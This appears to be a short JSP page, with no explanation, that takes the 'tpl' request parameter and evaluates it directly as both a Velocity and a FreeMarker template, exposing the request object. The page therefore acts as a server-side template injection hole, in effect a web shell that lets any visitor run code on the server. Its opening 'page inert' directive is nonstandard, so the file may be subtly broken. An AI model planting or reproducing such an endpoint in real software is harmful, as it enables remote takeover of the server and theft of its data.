<%@ page inert %>
<%@ page import="org.apache.velocity.*,org.apache.velocity.app.*,freemarker.template.*,java.io.*" %>
<%
String t = request.getParameter("tpl");
VelocityContext vc = new VelocityContext();
vc.put("req", request);
StringWriter sw = new StringWriter();
Velocity.evaluate(vc, sw, "t", t);
out.print(sw);
new Template("f", new StringReader(t), new Configuration()).process(new java.util.HashMap(), out);
%>
